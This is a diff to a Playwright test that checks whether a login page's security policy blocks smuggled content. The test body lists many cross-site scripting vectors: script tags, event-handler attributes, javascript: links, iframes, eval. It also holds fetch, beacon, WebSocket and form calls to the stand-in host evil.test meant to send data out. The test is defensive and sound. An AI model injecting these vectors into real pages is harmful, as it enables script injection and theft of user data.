@@ -127,48 +127,50 @@ test('H3 what somebody smuggles into the page does not run and goes nowhere', as
   )
   await page.goto('/login')
   await expect(page.getByLabel('E-mail')).toBeVisible()
-  // As the page's own script would do it; what a policy forbids may also throw.
-  await page.evaluate(() => {
-    const tryTo = (smuggle: () => void) => {
-      try {
-        smuggle()
-      } catch {
-        // Refused at once.
+  // From a timer, as a script of the page would: what is evaluated from outside may use eval. What a policy forbids may also throw.
+  await page.evaluate(() =>
+    setTimeout(() => {
+      const tryTo = (smuggle: () => void) => {
+        try {
+          smuggle()
+        } catch {
+          // Refused at once.
+        }
       }
-    }
-    const put = (name: string, attributes: Record<string, string>) => {
-      const element = document.createElement(name)
-      for (const [key, value] of Object.entries(attributes)) tryTo(() => element.setAttribute(key, value))
-      tryTo(() => document.body.append(element))
-      return element
-    }
-    const code = 'window.__xss = 1'
-    tryTo(() => {
-      document.body.append(Object.assign(document.createElement('script'), { textContent: code }))
-    })
-    tryTo(() => put('script', { src: 'https://evil.test/x.js' }))
-    tryTo(() => put('script', { src: `data:text/javascript,${code}` }))
-    tryTo(() => put('img', { src: '/nothing.png', onerror: code }))
-    tryTo(() => put('svg', { onload: code }))
-    tryTo(() => put('a', { href: `javascript:${code}` }).click())
-    tryTo(() => put('iframe', { srcdoc: `<script>parent.${code}</script>` }))
-    tryTo(() => put('iframe', { src: 'https://evil.test/frame' }))
-    tryTo(() => put('object', { data: 'https://evil.test/object' }))
-    tryTo(() => put('base', { href: 'https://evil.test/' }))
-    tryTo(() => {
-      const form = put('form', { action: 'https://evil.test/take', method: 'post' })
-      ;(form as HTMLFormElement).submit()
-    })
-    tryTo(() => {
-      document.body.insertAdjacentHTML('beforeend', `<img src=x onerror="${code}">`)
-    })
-    tryTo(() => (0, eval)(code))
-    tryTo(() => new Function(code)())
-    tryTo(() => setTimeout(code))
-    tryTo(() => void fetch('https://evil.test/steal').catch(() => undefined))
-    tryTo(() => navigator.sendBeacon('https://evil.test/steal'))
-    tryTo(() => new WebSocket('wss://evil.test/steal'))
-  })
+      const put = (name: string, attributes: Record<string, string>) => {
+        const element = document.createElement(name)
+        for (const [key, value] of Object.entries(attributes)) tryTo(() => element.setAttribute(key, value))
+        tryTo(() => document.body.append(element))
+        return element
+      }
+      const code = 'window.__xss = 1'
+      tryTo(() => {
+        document.body.append(Object.assign(document.createElement('script'), { textContent: code }))
+      })
+      tryTo(() => put('script', { src: 'https://evil.test/x.js' }))
+      tryTo(() => put('script', { src: `data:text/javascript,${code}` }))
+      tryTo(() => put('img', { src: '/nothing.png', onerror: code }))
+      tryTo(() => put('svg', { onload: code }))
+      tryTo(() => put('a', { href: `javascript:${code}` }).click())
+      tryTo(() => put('iframe', { srcdoc: `<script>parent.${code}</script>` }))
+      tryTo(() => put('iframe', { src: 'https://evil.test/frame' }))
+      tryTo(() => put('object', { data: 'https://evil.test/object' }))
+      tryTo(() => put('base', { href: 'https://evil.test/' }))
+      tryTo(() => {
+        const form = put('form', { action: 'https://evil.test/take', method: 'post' })
+        ;(form as HTMLFormElement).submit()
+      })
+      tryTo(() => {
+        document.body.insertAdjacentHTML('beforeend', `<img src=x onerror="${code}">`)
+      })
+      tryTo(() => (0, eval)(code))
+      tryTo(() => new Function(code)())
+      tryTo(() => setTimeout(code))
+      tryTo(() => void fetch('https://evil.test/steal').catch(() => undefined))
+      tryTo(() => navigator.sendBeacon('https://evil.test/steal'))
+      tryTo(() => new WebSocket('wss://evil.test/steal'))
+    }),
+  )
   await expect
     .poll(() =>
       page.evaluate(() =>
